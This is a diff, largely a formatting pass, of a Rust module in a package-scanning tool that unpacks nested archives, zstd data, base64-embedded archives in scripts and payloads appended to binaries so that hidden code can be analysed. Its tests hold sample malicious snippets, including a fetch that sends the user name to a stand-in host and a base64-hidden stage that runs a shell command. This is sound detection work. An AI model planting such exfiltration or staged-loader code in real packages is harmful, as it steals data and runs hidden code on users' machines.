@@ -24,7 +24,9 @@ use std::collections::HashMap;
 use std::io::Read;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::Mutex;
-use telltale_ingest::executable::{embedded_modules, is_executable, Embedded, EmbeddedFile, EmbeddedModule};
+use telltale_ingest::executable::{
+    embedded_modules, is_executable, Embedded, EmbeddedFile, EmbeddedModule,
+};
 use telltale_report::coverage::{Container, Coverage, Identical};
 
 /// Containers inside containers, at most.
@@ -97,13 +99,27 @@ impl Budget {
 
     /// Limits for one nested read: what is left.
     fn limits(&self, opts: &ScanOptions) -> telltale_ingest::Limits {
-        telltale_ingest::Limits { max_total_bytes: self.bytes.load(Ordering::Relaxed), max_entries: self.entries.load(Ordering::Relaxed), ..opts.limits }
+        telltale_ingest::Limits {
+            max_total_bytes: self.bytes.load(Ordering::Relaxed),
+            max_entries: self.entries.load(Ordering::Relaxed),
+            ..opts.limits
+        }
     }
 
     /// Take `n` bytes and `entries` entries; false when they are not there.
     fn take(&self, n: u64, entries: u64) -> bool {
-        let took_bytes = self.bytes.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| left.checked_sub(n)).is_ok();
-        let took_entries = self.entries.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| left.checked_sub(entries)).is_ok();
+        let took_bytes = self
+            .bytes
+            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
+                left.checked_sub(n)
+            })
+            .is_ok();
+        let took_entries = self
+            .entries
+            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
+                left.checked_sub(entries)
+            })
+            .is_ok();
         took_bytes && took_entries
     }
 }
@@ -126,7 +142,11 @@ pub(crate) fn open<'a>(path: &str, bytes: &'a [u8], ctx: &Ctx) -> Opened<'a> {
 
 fn open_into<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
     if let Some(first) = ctx.seen.earlier(format!("{} › {path}", ctx.target), &bytes) {
-        out.coverage.identical.push(Identical { path: path.to_string(), same_as: first, bytes: bytes.len() as u64 });
+        out.coverage.identical.push(Identical {
+            path: path.to_string(),
+            same_as: first,
+            bytes: bytes.len() as u64,
+        });
         return;
     }
     if bytes.starts_with(ZSTD_MAGIC) {
@@ -139,13 +159,19 @@ fn open_into<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, out:
         return open_archive(path, format, &bytes, depth, ctx, out);
     }
     if is_wasm(&bytes) {
-        out.inputs.push(Input { path: path.to_string(), content: Content::Native(bytes) });
+        out.inputs.push(Input {
+            path: path.to_string(),
+            content: Content::Native(bytes),
+        });
         return;
     }
     if depth < MAX_DEPTH && crate::analyse::is_script_path(path) {
         open_base64_archives(path, &bytes, depth, ctx, out);
     }
-    out.inputs.push(Input { path: path.to_string(), content: Content::File(bytes) });
+    out.inputs.push(Input {
+        path: path.to_string(),
+        content: Content::File(bytes),
+    });
 }
 
 /// A zstd frame starts so.
@@ -155,19 +181,45 @@ const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
 /// under the same name.
 fn open_zstd<'a>(path: &str, bytes: &[u8], depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
     if depth >= MAX_DEPTH {
-        out.coverage.add_unanalysed(path, bytes.len() as u64, format!("zstd data nested more than {MAX_DEPTH} containers deep"));
+        out.coverage.add_unanalysed(
+            path,
+            bytes.len() as u64,
+            format!("zstd data nested more than {MAX_DEPTH} containers deep"),
+        );
         return;
     }
-    let cap = ctx.budget.limits(ctx.opts).max_total_bytes.min(ctx.opts.limits.max_file_bytes);
+    let cap = ctx
+        .budget
+        .limits(ctx.opts)
+        .max_total_bytes
+        .min(ctx.opts.limits.max_file_bytes);
     let mut data = Vec::new();
-    let read = ruzstd::decoding::StreamingDecoder::new(bytes).map_err(|e| e.to_string()).and_then(|d| d.take(cap.saturating_add(1)).read_to_end(&mut data).map_err(|e| e.to_string()));
+    let read = ruzstd::decoding::StreamingDecoder::new(bytes)
+        .map_err(|e| e.to_string())
+        .and_then(|d| {
+            d.take(cap.saturating_add(1))
+                .read_to_end(&mut data)
+                .map_err(|e| e.to_string())
+        });
     match read {
-        Err(e) => out.coverage.add_unanalysed(path, bytes.len() as u64, format!("zstd data that could not be decompressed: {e}")),
+        Err(e) => out.coverage.add_unanalysed(
+            path,
+            bytes.len() as u64,
+            format!("zstd data that could not be decompressed: {e}"),
+        ),
         Ok(_) if data.len() as u64 > cap || !ctx.budget.take(data.len() as u64, 1) => {
-            out.coverage.add_unanalysed(path, bytes.len() as u64, "zstd data over the target's limits (--max-archive-bytes, --max-file-bytes)")
+            out.coverage.add_unanalysed(
+                path,
+                bytes.len() as u64,
+                "zstd data over the target's limits (--max-archive-bytes, --max-file-bytes)",
+            )
         }
         Ok(_) => {
-            out.coverage.containers.push(Container { path: path.to_string(), format: "zstd".into(), files: 1 });
+            out.coverage.containers.push(Container {
+                path: path.to_string(),
+                format: "zstd".into(),
+                files: 1,
+            });
             open_into(path, Cow::Owned(data), depth + 1, ctx, out);
         }
     }
@@ -178,9 +230,20 @@ fn is_wasm(bytes: &[u8]) -> bool {
 }
 
 /// Opens an archive found inside the target (or inside something in it).
-fn open_archive<'a>(path: &str, format: &str, bytes: &[u8], depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
+fn open_archive<'a>(
+    path: &str,
+    format: &str,
+    bytes: &[u8],
+    depth: usize,
+    ctx: &Ctx,
+    out: &mut Opened<'a>,
+) {
     if depth >= MAX_DEPTH {
-        out.coverage.add_unanalysed(path, bytes.len() as u64, format!("a {format} archive nested more than {MAX_DEPTH} containers deep"));
+        out.coverage.add_unanalysed(
+            path,
+            bytes.len() as u64,
+            format!("a {format} archive nested more than {MAX_DEPTH} containers deep"),
+        );
         return;
     }
     // Named by its last component: a gzip file that holds no tar is one file without `.gz`.
@@ -190,16 +253,28 @@ fn open_archive<'a>(path: &str, format: &str, bytes: &[u8], depth: usize, ctx: &
     let target = match loaded {
         Ok(t) => t,
         Err(e) => {
-            out.coverage.add_unanalysed(path, bytes.len() as u64, format!("a {format} archive that could not be opened: {e}"));
+            out.coverage.add_unanalysed(
+                path,
+                bytes.len() as u64,
+                format!("a {format} archive that could not be opened: {e}"),
+            );
             return;
         }
     };
-    if !ctx.budget.take(target.bytes_read, target.files.len() as u64) {
+    if !ctx
+        .budget
+        .take(target.bytes_read, target.files.len() as u64)
+    {
         out.coverage.add_unanalysed(path, bytes.len() as u64, "over the target's limits (--max-archive-bytes, --max-archive-entries) once its nested archives are counted");
         return;
     }
-    out.coverage.containers.push(Container { path: path.to_string(), format: format.to_string(), files: target.files.len() as u64 });
-    out.warnings.extend(target.warnings.into_iter().map(|w| format!("{path}: {w}")));
+    out.coverage.containers.push(Container {
+        path: path.to_string(),
+        format: format.to_string(),
+        files: target.files.len() as u64,
+    });
+    out.warnings
+        .extend(target.warnings.into_iter().map(|w| format!("{path}: {w}")));
     for f in target.files {
         let inner = format!("{path} › {}", f.path);
         open_into(&inner, Cow::Owned(f.bytes), depth + 1, ctx, out);
@@ -207,52 +282,99 @@ fn open_archive<'a>(path: &str, format: &str, bytes: &[u8], depth: usize, ctx: &
 }
 
 /// An executable: its runtime's payload, or else its strings (and archives inside it).
-fn open_executable<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
+fn open_executable<'a>(
+    path: &str,
+    bytes: Cow<'a, [u8]>,
+    depth: usize,
+    ctx: &Ctx,
+    out: &mut Opened<'a>,
+) {
     let embedded = match &bytes {
         Cow::Borrowed(b) => embedded_modules(b),
         Cow::Owned(b) => embedded_modules(b).map(into_owned),
     };
     let Some(embedded) = embedded else {
         if let Some(runtime) = runtime_marker(&bytes) {
-            out.coverage.add_unanalysed(path, bytes.len() as u64, format!("a {runtime} executable whose embedded program could not be read"));
+            out.coverage.add_unanalysed(
+                path,
+                bytes.len() as u64,
+                format!("a {runtime} executable whose embedded program could not be read"),
+            );
         }
         if depth < MAX_DEPTH {
             open_archives_in_binary(path, &bytes, depth, ctx, out);
         }
-        out.inputs.push(Input { path: path.to_string(), content: Content::Native(bytes) });
+        out.inputs.push(Input {
+            path: path.to_string(),
+            content: Content::Native(bytes),
+        });
         return;
     };
-    let Embedded { format, modules, files, unreadable } = embedded;
+    let Embedded {
+        format,
+        modules,
+        files,
+        unreadable,
+    } = embedded;
     let found = modules.len() + files.len();
-    out.coverage.containers.push(Container { path: path.to_string(), format: format.to_string(), files: found as u64 });
+    out.coverage.containers.push(Container {
+        path: path.to_string(),
+        format: format.to_string(),
+        files: found as u64,
+    });
     if found == 0 && unreadable.is_empty() {
-        out.coverage.add_unanalysed(path, bytes.len() as u64, format!("a {format} executable with no readable program in it"));
+        out.coverage.add_unanalysed(
+            path,
+            bytes.len() as u64,
+            format!("a {format} executable with no readable program in it"),
+        );
     }
     for u in unreadable {
-        out.coverage.add_unanalysed(&format!("{path} › {}", u.name), u.bytes, u.why);
+        out.coverage
+            .add_unanalysed(&format!("{path} › {}", u.name), u.bytes, u.why);
     }
     let nothing_read = modules.is_empty() && files.is_empty();
     for m in modules {
-        out.inputs.push(Input { path: format!("{path} › {}", m.name), content: Content::Script(m.text) });
+        out.inputs.push(Input {
+            path: format!("{path} › {}", m.name),
+            content: Content::Script(m.text),
+        });
     }
     for f in files {
         let inner = format!("{path} › {}", f.name);
         let data = f.bytes;
         if depth + 1 > MAX_DEPTH {
-            out.coverage.add_unanalysed(&inner, data.len() as u64, format!("nested more than {MAX_DEPTH} containers deep"));
+            out.coverage.add_unanalysed(
+                &inner,
+                data.len() as u64,
+                format!("nested more than {MAX_DEPTH} containers deep"),
+            );
             continue;
         }
         open_payload(&inner, data, depth + 1, ctx, out);
     }
     if nothing_read {
         // Nothing readable as source: the binary's strings are still searched.
-        out.inputs.push(Input { path: path.to_string(), content: Content::Native(bytes) });
+        out.inputs.push(Input {
+            path: path.to_string(),
+            content: Content::Native(bytes),
+        });
     }
 }
 
 /// A payload an executable carries: code by name or magic, else not code (images, text).
-fn open_payload<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
-    let code = is_executable(&bytes) || is_wasm(&bytes) || bytes.starts_with(ZSTD_MAGIC) || telltale_ingest::container_format(&bytes).is_some() || crate::analyse::kind_of(path).is_some();
+fn open_payload<'a>(
+    path: &str,
+    bytes: Cow<'a, [u8]>,
+    depth: usize,
+    ctx: &Ctx,
+    out: &mut Opened<'a>,
+) {
+    let code = is_executable(&bytes)
+        || is_wasm(&bytes)
+        || bytes.starts_with(ZSTD_MAGIC)
+        || telltale_ingest::container_format(&bytes).is_some()
+        || crate::analyse::kind_of(path).is_some();
     if code {
         open_into(path, bytes, depth, ctx, out);
     }
@@ -262,8 +384,22 @@ fn open_payload<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, o
 fn into_owned(e: Embedded<'_>) -> Embedded<'static> {
     Embedded {
         format: e.format,
-        modules: e.modules.into_iter().map(|m| EmbeddedModule { name: m.name, text: Cow::Owned(m.text.into_owned()) }).collect(),
-        files: e.files.into_iter().map(|f| EmbeddedFile { name: f.name, bytes: Cow::Owned(f.bytes.into_owned()) }).collect(),
+        modules: e
+            .modules
+            .into_iter()
+            .map(|m| EmbeddedModule {
+                name: m.name,
+                text: Cow::Owned(m.text.into_owned()),
+            })
+            .collect(),
+        files: e
+            .files
+            .into_iter()
+            .map(|f| EmbeddedFile {
+                name: f.name,
+                bytes: Cow::Owned(f.bytes.into_owned()),
+            })
+            .collect(),
         unreadable: e.unreadable,
     }
 }
@@ -285,21 +421,43 @@ fn runtime_marker(bytes: &[u8]) -> Option<&'static str> {
 
 /// Archives inside a native binary: a zip appended to it (self-extracting and packed apps),
 /// and gzip streams whose header and first bytes read as a tarball or text.
-fn open_archives_in_binary<'a>(path: &str, bytes: &[u8], depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
+fn open_archives_in_binary<'a>(
+    path: &str,
+    bytes: &[u8],
+    depth: usize,
+    ctx: &Ctx,
+    out: &mut Opened<'a>,
+) {
     if let Some(start) = appended_zip(bytes) {
-        open_archive(&format!("{path} › zip@{start}"), "zip", &bytes[start..], depth + 1, ctx, out);
+        open_archive(
+            &format!("{path} › zip@{start}"),
+            "zip",
+            &bytes[start..],
+            depth + 1,
+            ctx,
+            out,
+        );
     }
     for at in memchr::memmem::find_iter(bytes, &[0x1f, 0x8b, 0x08]) {
         if !plausible_gzip_header(&bytes[at..]) {
             continue;
         }
-        let Some(data) = inflate_gzip_member(&bytes[at..], ctx) else { continue };
+        let Some(data) = inflate_gzip_member(&bytes[at..], ctx) else {
+            continue;
+        };
         let name = format!("{path} › gzip@{at}");
         if telltale_ingest::container_format(&data) == Some("tar") {
             open_archive(&name, "gzip", &data, depth + 1, ctx, out);
         } else {
-            out.coverage.containers.push(Container { path: name.clone(), format: "gzip".into(), files: 1 });
-            out.inputs.push(Input { path: format!("{name}.js"), content: Content::File(Cow::Owned(data)) });
+            out.coverage.containers.push(Container {
+                path: name.clone(),
+                format: "gzip".into(),
+                files: 1,
+            });
+            out.inputs.push(Input {
+                path: format!("{name}.js"),
+                content: Content::File(Cow::Owned(data)),
+            });
         }
     }
 }
@@ -309,11 +467,18 @@ fn open_archives_in_binary<'a>(path: &str, bytes: &[u8], depth: usize, ctx: &Ctx
 fn appended_zip(bytes: &[u8]) -> Option<usize> {
     let window = bytes.len().saturating_sub(22 + 0xFFFF);
     let eocd = window + memchr::memmem::rfind(&bytes[window..], b"PK\x05\x06")?;
-    let le32 = |at: usize| bytes.get(at..at + 4).map(|s| u32::from_le_bytes([s[0], s[1], s[2], s[3]]) as usize);
+    let le32 = |at: usize| {
+        bytes
+            .get(at..at + 4)
+            .map(|s| u32::from_le_bytes([s[0], s[1], s[2], s[3]]) as usize)
+    };
     let (cd_size, cd_offset) = (le32(eocd + 12)?, le32(eocd + 16)?);
     let cd_start = eocd.checked_sub(cd_size)?;
     let zip_start = cd_start.checked_sub(cd_offset)?;
-    (bytes.get(cd_start..cd_start + 4)? == b"PK\x01\x02" && bytes.get(zip_start..zip_start + 4)? == b"PK\x03\x04" && zip_start > 0).then_some(zip_start)
+    (bytes.get(cd_start..cd_start + 4)? == b"PK\x01\x02"
+        && bytes.get(zip_start..zip_start + 4)? == b"PK\x03\x04"
+        && zip_start > 0)
+        .then_some(zip_start)
 }
 
 /// A gzip member header as compressors write it: deflate, no reserved flags, a known
@@ -325,16 +490,26 @@ fn plausible_gzip_header(b: &[u8]) -> bool {
 /// The member's data when its first kilobytes inflate; bounded by the budget.
 fn inflate_gzip_member(b: &[u8], ctx: &Ctx) -> Option<Vec<u8>> {
     let mut probe = Vec::new();
-    flate2::read::GzDecoder::new(b).take(4096).read_to_end(&mut probe).ok()?;
+    flate2::read::GzDecoder::new(b)
+        .take(4096)
+        .read_to_end(&mut probe)
+        .ok()?;
     if probe.len() < 512 && !looks_like_source(&probe) {
         return None;
     }
     if !(telltale_ingest::container_format(&probe) == Some("tar") || looks_like_source(&probe)) {
         return None;
     }
-    let cap = ctx.budget.limits(ctx.opts).max_total_bytes.min(ctx.opts.limits.max_file_bytes);
+    let cap = ctx
+        .budget
+        .limits(ctx.opts)
+        .max_total_bytes
+        .min(ctx.opts.limits.max_file_bytes);
     let mut data = Vec::new();
-    flate2::read::GzDecoder::new(b).take(cap.saturating_add(1)).read_to_end(&mut data).ok()?;
+    flate2::read::GzDecoder::new(b)
+        .take(cap.saturating_add(1))
+        .read_to_end(&mut data)
+        .ok()?;
     if data.len() as u64 > cap || !ctx.budget.take(data.len() as u64, 1) {
         return None;
     }
@@ -349,25 +524,57 @@ fn looks_like_source(b: &[u8]) -> bool {
         Ok(_) => true,
         Err(e) => e.error_len().is_none(),
     };
-    head.len() >= 64 && utf8 && !head.contains(&0) && head.iter().filter(|&&c| matches!(c, b'(' | b'{' | b';' | b'=')).count() >= 4
+    head.len() >= 64
+        && utf8
+        && !head.contains(&0)
+        && head
+            .iter()
+            .filter(|&&c| matches!(c, b'(' | b'{' | b';' | b'='))
+            .count()
+            >= 4
 }
 
 /// Archives a script carries as base64 strings: gzip (`H4sI`) and zip (`UEsDB`).
-fn open_base64_archives<'a>(path: &str, bytes: &[u8], depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
+fn open_base64_archives<'a>(
+    path: &str,
+    bytes: &[u8],
+    depth: usize,
+    ctx: &Ctx,
+    out: &mut Opened<'a>,
+) {
     for marker in [&b"H4sI"[..], b"UEsDB"] {
         for at in memchr::memmem::find_iter(bytes, marker) {
             // A base64 run starts here, after a quote or other non-base64 byte.
             if at > 0 && is_base64_byte(bytes[at - 1]) {
                 continue;
             }
-            let len = bytes[at..].iter().take_while(|&&b| is_base64_byte(b) || b == b'=').count();
+            let len = bytes[at..]
+                .iter()
+                .take_while(|&&b| is_base64_byte(b) || b == b'=')
+                .count();
             if len < MIN_BASE64_ARCHIVE {
                 continue;
             }
             let text = &bytes[at..at + len];
-            let Ok(decoded) = base64::engine::general_purpose::STANDARD.decode(text).or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(text.trim_ascii_end())) else { continue };
-            let Some(format) = telltale_ingest::container_format(&decoded) else { continue };
-            open_archive(&format!("{path} › base64@{at}"), &format!("base64 {format}"), &decoded, depth + 1, ctx, out);
+            let Ok(decoded) = base64::engine::general_purpose::STANDARD
+                .decode(text)
+                .or_else(|_| {
+                    base64::engine::general_purpose::STANDARD_NO_PAD.decode(text.trim_ascii_end())
+                })
+            else {
+                continue;
+            };
+            let Some(format) = telltale_ingest::container_format(&decoded) else {
+                continue;
+            };
+            open_archive(
+                &format!("{path} › base64@{at}"),
+                &format!("base64 {format}"),
+                &decoded,
+                depth + 1,
+                ctx,
+                out,
+            );
         }
     }
 }
@@ -381,7 +588,10 @@ mod tests {
     use super::*;
 
     fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
-        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+            Vec::new(),
+            flate2::Compression::fast(),
+        ));
         for (name, data) in files {
             let mut h = tar::Header::new_gnu();
             h.set_size(data.len() as u64);
@@ -396,19 +606,38 @@ mod tests {
     fn open_fresh<'a>(path: &str, bytes: &'a [u8]) -> Opened<'a> {
         let opts = ScanOptions::default();
         let budget = Budget::after(&opts, 0, 0);
-        open(path, bytes, &Ctx { opts: &opts, seen: &SeenFiles::default(), budget: &budget, target: "t" })
+        open(
+            path,
+            bytes,
+            &Ctx {
+                opts: &opts,
+                seen: &SeenFiles::default(),
+                budget: &budget,
+                target: "t",
+            },
+        )
     }
 
     fn open_all(path: &str, bytes: &[u8]) -> Vec<String> {
-        open_fresh(path, bytes).inputs.iter().map(|i| i.path.clone()).collect()
+        open_fresh(path, bytes)
+            .inputs
+            .iter()
+            .map(|i| i.path.clone())
+            .collect()
     }
 
     #[test]
     fn a_tarball_in_a_tarball_is_opened_and_named_by_its_path() {
         let inner = tgz(&[("package/index.js", b"fetch('https://t.example.com')")]);
         let outer = tgz(&[("package/vendor/app.tgz", &inner)]);
-        let target = telltale_ingest::load_bytes("p.tgz", &outer, &Default::default(), &|p| wanted_file(p)).unwrap();
-        assert_eq!(target.files.len(), 1, "archives are loaded from the package");
+        let target =
+            telltale_ingest::load_bytes("p.tgz", &outer, &Default::default(), &|p| wanted_file(p))
+                .unwrap();
+        assert_eq!(
+            target.files.len(),
+            1,
+            "archives are loaded from the package"
+        );
         let paths = open_all(&target.files[0].path, &target.files[0].bytes);
         assert_eq!(paths, ["package/vendor/app.tgz › package/index.js"]);
     }
@@ -417,9 +646,17 @@ mod tests {
     fn base64_archives_in_scripts_are_opened() {
         let inner = tgz(&[("package/stage2.js", b"require('child_process').exec('id')")]);
         let b64 = base64::engine::general_purpose::STANDARD.encode(&inner);
-        let js = format!("const blob = \"{b64}\";\nrequire('zlib').gunzipSync(Buffer.from(blob, 'base64'));");
+        let js = format!(
+            "const blob = \"{b64}\";\nrequire('zlib').gunzipSync(Buffer.from(blob, 'base64'));"
+        );
         let paths = open_all("package/index.js", js.as_bytes());
-        assert_eq!(paths, ["package/index.js › base64@14 › package/stage2.js", "package/index.js"]);
+        assert_eq!(
+            paths,
+            [
+                "package/index.js › base64@14 › package/stage2.js",
+                "package/index.js"
+            ]
+        );
     }
 
     #[test]
@@ -430,7 +667,12 @@ mod tests {
         }
         let o = open_fresh("x.tgz", &data);
         assert!(o.inputs.is_empty());
-        assert_eq!(o.coverage.unanalysed.len(), 1, "{:?}", o.coverage.unanalysed);
+        assert_eq!(
+            o.coverage.unanalysed.len(),
+            1,
+            "{:?}",
+            o.coverage.unanalysed
+        );
         assert!(o.coverage.unanalysed[0].why.contains("nested more than"));
     }
 
@@ -450,7 +692,11 @@ mod tests {
         assert!(matches!(&o.inputs[0].content, Content::File(b) if b.as_ref() == text));
         assert_eq!(o.coverage.containers[0].format, "zstd");
         let broken = open_fresh("x.js", &frame[..9]);
-        assert!(broken.inputs.is_empty() && broken.coverage.unanalysed[0].why.contains("zstd"), "{:?}", broken.coverage.unanalysed);
+        assert!(
+            broken.inputs.is_empty() && broken.coverage.unanalysed[0].why.contains("zstd"),
+            "{:?}",
+            broken.coverage.unanalysed
+        );
     }
 
     #[test]
@@ -459,30 +705,61 @@ mod tests {
         let opts = ScanOptions::default();
         let seen = SeenFiles::default();
         let budget = Budget::after(&opts, 0, 0);
-        let ctx = |target| Ctx { opts: &opts, seen: &seen, budget: &budget, target };
-        assert_eq!(open("package/bin/tool", &big, &ctx("npm:tool-linux-x64@1.0.0")).inputs.len(), 1);
-        let again = open("package/bin/tool", &big, &ctx("npm:tool-linux-x64-baseline@1.0.0"));
+        let ctx = |target| Ctx {
+            opts: &opts,
+            seen: &seen,
+            budget: &budget,
+            target,
+        };
+        assert_eq!(
+            open("package/bin/tool", &big, &ctx("npm:tool-linux-x64@1.0.0"))
+                .inputs
+                .len(),
+            1
+        );
+        let again = open(
+            "package/bin/tool",
+            &big,
+            &ctx("npm:tool-linux-x64-baseline@1.0.0"),
+        );
         assert!(again.inputs.is_empty());
-        assert_eq!(again.coverage.identical, [Identical { path: "package/bin/tool".into(), same_as: "npm:tool-linux-x64@1.0.0 › package/bin/tool".into(), bytes: big.len() as u64 }]);
+        assert_eq!(
+            again.coverage.identical,
+            [Identical {
+                path: "package/bin/tool".into(),
+                same_as: "npm:tool-linux-x64@1.0.0 › package/bin/tool".into(),
+                bytes: big.len() as u64
+            }]
+        );
     }
 
     #[test]
     fn an_appended_zip_and_gzip_in_a_binary_are_found() {
         let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-        zip.start_file("app/main.js", zip::write::SimpleFileOptions::default()).unwrap();
+        zip.start_file("app/main.js", zip::write::SimpleFileOptions::default())
+            .unwrap();
         std::io::Write::write_all(&mut zip, b"require('os').hostname()").unwrap();
         let zip = zip.finish().unwrap().into_inner();
         let mut exe = b"\x7fELF\x02\x01\x01\0 a native stub ".to_vec();
         exe.extend_from_slice(&[0; 100]);
         let gz_at = exe.len();
-        let js = tgz(&[("package/hidden.js", b"fetch('https://h.example.com/?u=' + process.env.USER)")]);
+        let js = tgz(&[(
+            "package/hidden.js",
+            b"fetch('https://h.example.com/?u=' + process.env.USER)",
+        )]);
         exe.extend_from_slice(&js);
         exe.extend_from_slice(&[0; 50]);
         let zip_at = exe.len();
         exe.extend_from_slice(&zip);
         let paths = open_all("bin/tool", &exe);
-        assert!(paths.contains(&format!("bin/tool › zip@{zip_at} › app/main.js")), "{paths:?}");
-        assert!(paths.contains(&format!("bin/tool › gzip@{gz_at} › package/hidden.js")), "{paths:?}");
+        assert!(
+            paths.contains(&format!("bin/tool › zip@{zip_at} › app/main.js")),
+            "{paths:?}"
+        );
+        assert!(
+            paths.contains(&format!("bin/tool › gzip@{gz_at} › package/hidden.js")),
+            "{paths:?}"
+        );
         assert!(paths.contains(&"bin/tool".to_string()));
     }
 }
